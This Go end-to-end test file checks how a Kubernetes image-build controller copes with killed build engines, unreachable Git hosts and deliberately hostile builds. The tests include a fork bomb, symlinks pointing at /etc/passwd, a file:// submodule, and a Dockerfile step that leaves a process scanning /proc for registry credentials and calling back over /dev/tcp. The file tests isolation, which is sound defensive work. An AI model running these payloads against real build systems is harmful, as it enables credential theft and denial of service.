package e2e

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/emporium-shop/emporium/api/v1alpha1"
	"github.com/emporium-shop/emporium/hack/cluster/load"
)

// hostileSpecs are what goes wrong in a build, by bad luck or on purpose: each is told by its reason, and nothing of it is used.
func hostileSpecs(yard func() *yard) {
	It("builds once more when its engine is killed in mid-build, at most twice", func(ctx SpecContext) {
		y := yard()
		slow := "FROM debian:bookworm-slim AS test\nCOPY greeting /greeting\nRUN sleep 8\nFROM debian:bookworm-slim AS slow\nRUN sleep 8\nFROM scratch\nCOPY --from=slow /etc/debian_version /slow\nCOPY greeting /greeting\n"
		commit := y.push(ctx, "killed", map[string]string{"Dockerfile": slow, "greeting": "hello"})
		y.source(ctx, "killed", "")
		y.killEngine(ctx, "killed", commit, 1, "build")
		y.killEngine(ctx, "killed", commit, 2, "test")
		image := y.comes(ctx, "killed", commit, v1alpha1.ReasonUpToDate).Latest.Image
		Expect(y.jobs(ctx, "killed")).To(HaveLen(3))
		again := y.push(ctx, "unkilled", map[string]string{"Dockerfile": slow, "greeting": "hello"})
		y.source(ctx, "unkilled", "")
		Expect(digestOf(y.comes(ctx, "unkilled", again, v1alpha1.ReasonUpToDate).Latest.Image)).To(Equal(digestOf(image)))
	})

	It("gives up an engine that is killed three times, and has pushed nothing", func(ctx SpecContext) {
		y := yard()
		commit := y.push(ctx, "doomed", map[string]string{"Dockerfile": dockerfile("RUN sleep 30"), "greeting": "hello"})
		y.source(ctx, "doomed", "")
		for attempt := range 3 {
			y.killEngine(ctx, "doomed", commit, int32(attempt+1), "test")
		}
		said := y.comes(ctx, "doomed", commit, v1alpha1.ReasonEngineLost)
		Expect(said.Failed.Attempts).To(BeEquivalentTo(3))
		Expect(readyOf(said)).To(ContainSubstring("its engine or pod was lost in 3 attempts"))
		Expect(said.Latest).To(BeNil())
		Expect(y.pushed(ctx, "doomed")).To(BeEmpty())
		Expect(y.jobs(ctx, "doomed")).To(HaveLen(3))
	})

	It("waits for a Git host that is away from the engine, and fetches again", func(ctx SpecContext) {
		y := yard()
		commit := y.push(ctx, "unfetched", greeting("hello"))
		y.away.Store(true)
		DeferCleanup(func() { y.away.Store(false) })
		y.source(ctx, "unfetched", "")
		said := y.comes(ctx, "unfetched", commit, v1alpha1.ReasonGitUnreachable)
		Expect(said.Failed.Output).To(ContainSubstring("The requested URL returned error: 503"))
		Expect(readyOf(said)).To(ContainSubstring("it is tried again by itself"))
		y.away.Store(false)
		y.comes(ctx, "unfetched", commit, v1alpha1.ReasonUpToDate)
		Expect(len(y.jobs(ctx, "unfetched"))).To(BeNumerically(">", 1))
	})

	It("pushes what was built though a process of a RUN lives on, and lets it see no secret", func(ctx SpecContext) {
		y := yard()
		_, err := here.Kubectl(ctx, "-n", y.namespace, "create", "secret", "docker-registry", "left-push", "--docker-server="+y.builds.Host(), "--docker-username=team", "--docker-password=s3cret-left")
		Expect(err).NotTo(HaveOccurred())
		_, err = here.Kubectl(ctx, "-n", y.namespace, "annotate", "secret/left-push", v1alpha1.AnnotationAllowedSources+"=left,clean")
		Expect(err).NotTo(HaveOccurred())
		clean := y.push(ctx, "clean", greeting("hello, left"))
		y.source(ctx, "clean", "pushSecret: left-push")
		want := digestOf(y.comes(ctx, "clean", clean, v1alpha1.ReasonUpToDate).Latest.Image)
		commit := y.push(ctx, "left", map[string]string{"Dockerfile": dockerfile(leftBehind), "greeting": "hello, left"})
		y.source(ctx, "left", "pushSecret: left-push")
		Expect(digestOf(y.comes(ctx, "left", commit, v1alpha1.ReasonUpToDate).Latest.Image)).To(Equal(want))
		Expect(y.alive.Load()).To(BeNumerically(">", 3), "the process lived on: else this test shows nothing")
		Expect(y.caught.Load()).To(BeZero(), "it saw the push secret, or what push sends")
		seen := func() int64 { return y.alive.Load() }
		Eventually(func(g Gomega) {
			was := seen()
			time.Sleep(2 * time.Second) // ten times as long as the process rests
			g.Expect(seen()).To(Equal(was), "it ends with the pod")
		}).Should(Succeed())
	})

	It("ends a fork bomb with its pod, and nothing else", func(ctx SpecContext) {
		y := yard()
		commit := y.push(ctx, "forks", map[string]string{"Dockerfile": dockerfile(`RUN bash -c 'b() { b | b & }; b; wait; sleep 600'`), "greeting": "hello"})
		y.source(ctx, "forks", "resources: {limits: {memory: 300Mi, cpu: 500m}}, timeout: 90s")
		said := y.comesTo(ctx, "forks", commit)
		Expect(said.Failed).NotTo(BeNil())
		Expect(said.Failed.Reason).To(BeElementOf(v1alpha1.ReasonTestsFailed, v1alpha1.ReasonTimedOut))
		Expect(y.pushed(ctx, "forks")).To(BeEmpty())
		pods, err := here.Kubectl(ctx, "-n", y.namespace, "get", "pods", "-l", "shop.emporium.dev/source=forks", "-o", "jsonpath={.items[*].metadata.uid}")
		Expect(err).NotTo(HaveOccurred())
		for _, uid := range strings.Fields(pods) {
			Eventually(func() []int { return running(uid, "") }).Should(BeEmpty(), "processes of the bomb")
		}
		after := y.push(ctx, "after", greeting("hello"))
		y.source(ctx, "after", "")
		y.comes(ctx, "after", after, v1alpha1.ReasonUpToDate)
	})

	It("leaves the context by no link and no submodule", func(ctx SpecContext) {
		y := yard()
		link := func(name, to string) func(string) {
			return func(folder string) {
				Expect(os.RemoveAll(filepath.Join(folder, name))).To(Succeed())
				Expect(os.Symlink(to, filepath.Join(folder, name))).To(Succeed())
				y.run(ctx, folder, "add", "-A")
			}
		}
		submodule := func(folder string) {
			y.run(ctx, folder, "update-index", "--add", "--cacheinfo", "160000,"+strings.Repeat("1", 40)+",stolen")
		}
		for name, x := range map[string]struct {
			files map[string]string
			add   func(string)
			more  string
			says  string
		}{
			"link-dockerfile": {map[string]string{"greeting": "hello"}, link("Dockerfile", "/etc/passwd"), "", "Dockerfile"},
			"link-up":         {map[string]string{"greeting": "hello"}, link("Dockerfile", "../../../../etc/passwd"), "", "Dockerfile"},
			"link-copied":     {map[string]string{"Dockerfile": dockerfile("COPY taken /taken"), "greeting": "hello"}, link("taken", "/var/lib/buildkit"), "", `"/taken": not found`},
			"link-folder":     {greeting("hello"), link("folder", "/etc"), "path: folder", "non-directory"},
			"submodule":       {map[string]string{"Dockerfile": dockerfile("RUN true"), "greeting": "hello", ".gitmodules": "[submodule \"stolen\"]\n\tpath = stolen\n\turl = file:///var/lib/buildkit\n"}, submodule, "", "transport 'file' not allowed"},
		} {
			commit := y.pushWith(ctx, name, x.files, x.add)
			y.source(ctx, name, x.more)
			said := y.comesTo(ctx, name, commit)
			Expect(said.Failed).NotTo(BeNil(), name)
			Expect(said.Failed.Output).To(ContainSubstring(x.says), name)
			Expect(said.Failed.Reason).To(BeElementOf(v1alpha1.ReasonBuildFailed, v1alpha1.ReasonTestsFailed), name)
			Expect(said.Latest).To(BeNil(), name)
			Expect(y.pushed(ctx, name)).To(BeEmpty(), name)
		}
	})
}

// leftBehind leaves a process that tells that it lives, and tries to reach what push sends and by which right.
const leftBehind = `RUN printf '%s\n' '#!/bin/bash' \
  'say() { exec 3<>/dev/tcp/` + load.HostAddress + `/3001 && printf "GET /$1 HTTP/1.0\r\n\r\n" >&3; exec 3>&-; }' \
  'while sleep 0.2; do say alive; for root in "" /proc/[0-9]*/root; do' \
  '  cat $root/docker-config/config.json >/dev/null 2>&1 && say caught' \
  '  { echo spoiled >$root/image/layout/index.json; } 2>/dev/null && say caught' \
  'done; done' >/left && chmod +x /left && (setsid /left >/dev/null 2>&1 </dev/null &) && sleep 1`

// comesTo waits until the source has done with a commit, one way or the other.
func (y *yard) comesTo(ctx context.Context, name, commit string) (out v1alpha1.ShopSourceStatus) {
	GinkgoHelper()
	Eventually(func(g Gomega) {
		out = y.status(ctx, g, name)
		g.Expect(out.Commit).To(Equal(commit))
		g.Expect(out.Building).To(BeNil())
		g.Expect(out.Failed != nil || out.Latest != nil).To(BeTrue(), readyOf(out))
	}).WithTimeout(4 * time.Minute).Should(Succeed())
	return out
}

// killEngine kills buildkitd as soon as a step of an attempt runs, as the kernel does where memory is short.
func (y *yard) killEngine(ctx context.Context, name, commit string, attempt int32, step string) {
	GinkgoHelper()
	Eventually(func(g Gomega) {
		b := y.status(ctx, g, name).Building
		g.Expect(b).NotTo(BeNil())
		g.Expect(b.Commit).To(Equal(commit))
		g.Expect(b.Attempt).To(Equal(attempt))
		out, err := here.Kubectl(ctx, "-n", y.namespace, "get", "pods", "-l", "batch.kubernetes.io/job-name="+b.Job, "-o",
			fmt.Sprintf("jsonpath={.items[0].metadata.uid} {.items[0].status.initContainerStatuses[?(@.name==%q)].state.running.startedAt}", step))
		g.Expect(err).NotTo(HaveOccurred())
		uid, runs, _ := strings.Cut(strings.TrimSpace(out), " ")
		g.Expect(runs).NotTo(BeEmpty(), "the step does not run")
		engines := running(uid, "buildkitd")
		g.Expect(engines).NotTo(BeEmpty())
		for _, pid := range engines {
			process, err := os.FindProcess(pid)
			g.Expect(err).NotTo(HaveOccurred())
			g.Expect(process.Kill()).To(Succeed())
		}
	}).WithTimeout(2 * time.Minute).Should(Succeed())
}

// running are the processes of a pod on this machine by the name of their program; "": all but the pause container.
func running(uid, program string) (pids []int) {
	folders, _ := filepath.Glob("/proc/[0-9]*")
	for _, folder := range folders {
		groups, _ := os.ReadFile(filepath.Join(folder, "cgroup"))
		name, _ := os.ReadFile(filepath.Join(folder, "comm"))
		is := strings.TrimSpace(string(name))
		if pid, err := strconv.Atoi(filepath.Base(folder)); err == nil && strings.Contains(string(groups), "pod"+uid) && is != "pause" && (program == "" || is == program) {
			pids = append(pids, pid)
		}
	}
	return pids
}

func (y *yard) jobs(ctx context.Context, name string) []string {
	GinkgoHelper()
	out, err := here.Kubectl(ctx, "-n", y.namespace, "get", "jobs", "-l", "shop.emporium.dev/source="+name, "-o", "name")
	Expect(err).NotTo(HaveOccurred())
	return strings.Fields(out)
}

// pushed is what the registry says of a repository; "": it has none.
func (y *yard) pushed(ctx context.Context, name string) string {
	GinkgoHelper()
	request, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+y.registry(ctx)+"/v2/"+name+"/tags/list", nil)
	Expect(err).NotTo(HaveOccurred())
	answer, err := http.DefaultClient.Do(request)
	Expect(err).NotTo(HaveOccurred())
	defer answer.Body.Close()
	text, err := io.ReadAll(answer.Body)
	Expect(err).NotTo(HaveOccurred())
	if answer.StatusCode == http.StatusNotFound {
		return ""
	}
	return string(text)
}

// registry is its address, as this machine reaches it.
func (y *yard) registry(ctx context.Context) string {
	GinkgoHelper()
	ip, err := here.Kubectl(ctx, "-n", y.namespace, "get", "service", "registry", "-o", "jsonpath={.spec.clusterIP}")
	Expect(err).NotTo(HaveOccurred())
	return strings.TrimSpace(ip) + ":5000"
}

func digestOf(image string) string {
	_, digest, _ := strings.Cut(image, "@")
	return digest
}
